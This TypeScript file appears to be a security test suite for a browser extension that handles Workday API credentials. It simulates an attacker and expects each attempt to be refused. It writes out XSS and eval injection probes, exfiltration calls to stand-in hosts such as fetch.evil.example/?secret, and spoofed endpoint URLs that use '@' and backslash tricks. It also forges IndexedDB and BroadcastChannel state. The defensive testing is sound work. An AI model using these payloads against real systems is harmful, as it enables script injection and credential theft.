import { expect } from 'vitest';
import { shownIn } from '../../../drivers/shown.ts';
import { host } from '../asks.ts';
import type { Attack } from '../attack.ts';
import type { HostileHarness } from '../hostile-harness.ts';
import { keptIn } from '../vault.ts';
import { IsolatedWorld } from '../worlds.ts';

const key = `${host}/acme_dpt1` as const;
const elsewhere = 'evil.example';

/** Runs a probe in the panel, as code that got into it would, and adds up what came of it. */
const inPanel = ({ panel }: HostileHarness, probes: readonly string[]): Promise<string[]> =>
  panel.page.evaluate(async (all) => {
    const code = 'globalThis.canaryRan = 1';
    // The browser's debugger lets what it evaluates make code from text, but not what comes later.
    await new Promise((later) => setTimeout(later));
    const attempts: Record<string, () => unknown> = {
      innerHTML: () => {
        document.createElement('div').innerHTML = `<img src=x onerror="${code}">`;
      },
      eval: () => (Reflect.get(globalThis, 'eval') as (text: string) => unknown)(code),
      Function: () => new Function(code)(),
      timer: () => (setTimeout as (text: string) => number)(code),
      script: () => {
        const script = document.createElement('script');
        script.text = code;
        document.head.append(script);
      },
      frame: () => {
        document.createElement('iframe').srcdoc = `<script>top.${code}</script>`;
      },
      policy: () =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, o: object): void } }
        ).trustedTypes.createPolicy('own', { createHTML: (text: string) => text }),
      default: () =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, o: object): void } }
        ).trustedTypes.createPolicy('default', { createScript: (text: string) => text }),
      fetch: () => fetch('https://fetch.evil.example/?secret'),
      socket: () =>
        new Promise((opened, refused) => {
          const socket = new WebSocket('wss://socket.evil.example/');
          socket.onopen = opened;
          socket.onerror = refused;
        }),
      events: () =>
        new Promise((opened, refused) => {
          const source = new EventSource('https://events.evil.example/');
          source.onopen = opened;
          source.onerror = refused;
        }),
      image: () =>
        new Promise((loaded, refused) => {
          const image = new Image();
          image.onload = loaded;
          image.onerror = refused;
          image.src = 'https://image.evil.example/?secret';
        }),
      style: () =>
        new Promise((loaded, refused) => {
          const link = document.createElement('link');
          Object.assign(link, { rel: 'stylesheet', href: 'https://style.evil.example/' });
          link.onload = loaded;
          link.onerror = refused;
          document.head.append(link);
        }),
    };
    const succeeded: string[] = [];
    for (const name of all) {
      try {
        await attempts[name]?.();
        succeeded.push(name);
      } catch {
        // Refused.
      }
    }
    return succeeded;
  }, probes);

/** What has got further than a page: into the panel, the background, or our script's world. */
export const intruder: Attack[] = [
  {
    title: 'has got code into the panel: turns text into code, and makes policies to trust it',
    on: 'home',
    telling: true,
    async run(_, harness) {
      const ways = [
        'innerHTML',
        'eval',
        'Function',
        'timer',
        'script',
        'frame',
        'policy',
        'default',
      ];
      expect(await inPanel(harness, ways)).toEqual([]);
    },
  },
  {
    title: 'has got code into the panel: sends what it finds to another server',
    on: 'home',
    telling: true,
    async run(_, harness) {
      const ways = ['fetch', 'socket', 'events', 'image', 'style'];
      expect(await inPanel(harness, ways)).toEqual([]);
      expect(harness.wire.asked().filter((name) => name.endsWith(elsewhere))).toEqual([]);
    },
  },
  {
    title: 'has got code into the background: sends what it finds to another server',
    on: 'home',
    async run(_, { worker, wire }) {
      const sent = await (await worker()).evaluate(() =>
        Promise.all(
          ['https://worker.evil.example/', 'https://connect.kolleno.com.evil.example/'].map((url) =>
            fetch(url, { mode: 'no-cors' }).then(
              () => url,
              () => null,
            ),
          ),
        ),
      );
      expect(sent).toEqual([null, null]);
      expect(wire.asked().filter((name) => name.endsWith(elsewhere))).toEqual([]);
    },
  },
  {
    title:
      'has taken over the page script: delivers endpoints that other programs read differently',
    on: 'endpoints',
    async run(victim, { panel, worker }) {
      await panel.waitForCredentials('captured', 'restEndpoint');
      const before = (await keptIn(await worker()))[key]?.restEndpoint?.value;
      const world = await IsolatedWorld.of(victim.page);
      for (const value of [
        'https://evil.example/ccx/api/v1/acme_dpt1',
        'https://impl-services1.wd12.myworkday.com@evil.example/ccx/api/v1/acme_dpt1',
        'https://impl-services1.wd12.myworkday.com\\ccx\\api\\v1\\acme_dpt1\\@evil.example/x',
        'https://impl-services1.wd12.myworkday.com.evil.example/ccx/api/v1/acme_dpt1',
        'https://impl-services1.wd12.myworkday.com/ccx/api/v1/acme_dpt2',
        'https://impl-services1.wd12.myworkday.com/ccx/api/v1/acme_dpt1/../acme_dpt2',
        'https://wd5-impl-services1.workday.com/ccx/api/v1/acme_dpt1',
        'http://impl-services1.wd12.myworkday.com/ccx/api/v1/acme_dpt1',
      ]) {
        const data = { host, tenant: 'acme_dpt1', credential: 'restEndpoint', value };
        const sent = JSON.stringify({ ...data, task: 'view-api-clients' });
        expect(await world?.send('capture', sent), value).not.toBe('{"captured":true}');
      }
      expect((await keptIn(await worker()))[key]?.restEndpoint?.value).toBe(before);
    },
  },
  {
    title: 'has taken over the page script: delivers what is no secret of Workday’s in its place',
    on: 'user form',
    async run(victim, { worker }) {
      const before = (await keptIn(await worker()))[key]?.clientSecret?.value;
      const world = await IsolatedWorld.of(victim.page);
      for (const value of ['', ' ', '••••••••••••', 'abc…', 'a\nb']) {
        const data = { host, tenant: 'acme_dpt1', credential: 'clientSecret', value };
        const sent = JSON.stringify({ ...data, task: 'register-api-client' });
        expect(await world?.send('capture', sent), value).not.toBe('{"captured":true}');
      }
      expect((await keptIn(await worker()))[key]?.clientSecret?.value).toBe(before);
    },
  },
  {
    title: 'has taken over the page script: forges the disk and its channel in the page’s origin',
    on: 'user form',
    async run(victim, { panel }) {
      const before = await panel.page.evaluate(() => document.body.textContent);
      const world = await IsolatedWorld.of(victim.page);
      await world?.evaluate(`(async () => {
        const forged = {
          receipts: { '${key}': { id: 'forged', instance: 'Forged Ltd', at: new Date().toISOString() } },
          settings: { names: { isuUserName: 'forged' } },
          'overlay-off': { all: true, tenants: [], pages: {} },
        };
        await new Promise((done) => {
          const opening = indexedDB.open('kolleno-connect');
          opening.onupgradeneeded = () => opening.result.createObjectStore('items');
          opening.onsuccess = () => {
            const work = opening.result.transaction('items', 'readwrite');
            for (const [name, value] of Object.entries(forged)) work.objectStore('items').put(value, name);
            work.oncomplete = done;
          };
        });
        for (const message of [forged, Object.keys(forged), { changes: forged }])
          new BroadcastChannel('kolleno-connect').postMessage(message);
      })()`);
      await panel.page.reload();
      await panel.waitForTask('create-integration-system-user');
      const after = await panel.page.evaluate(() => document.body.textContent);
      expect(before).not.toContain('Forged');
      expect(after.toLowerCase()).not.toContain('forged');
      expect(await panel.page.$('[data-action="overlay-on"]')).toBeNull();
    },
  },
  {
    title: 'changes the values between drawing and press: what was on show is gone',
    on: 'secret',
    telling: true,
    async run(_, harness) {
      const shown = await shownIn(harness.panel.page, key);
      const other = await harness.open('secret');
      await other.page.close();
      const kept = (await keptIn(await harness.worker()))[key];
      for (const [type, data] of [
        ['reveal', { tenant: key, credential: 'clientSecret', shown }],
        ['wipe', { tenant: key, shown }],
        ['seal-file', { tenant: key, shown }],
        ['forget-tenant', { tenant: key, shown }],
      ] as const) {
        const answer = await harness.panel.page.evaluate(
          (message) => chrome.runtime.sendMessage(message),
          { type, data },
        );
        expect(Object.keys(answer ?? {}), type).toEqual(['refused']);
      }
      expect((await keptIn(await harness.worker()))[key]).toEqual(kept);
    },
  },
];
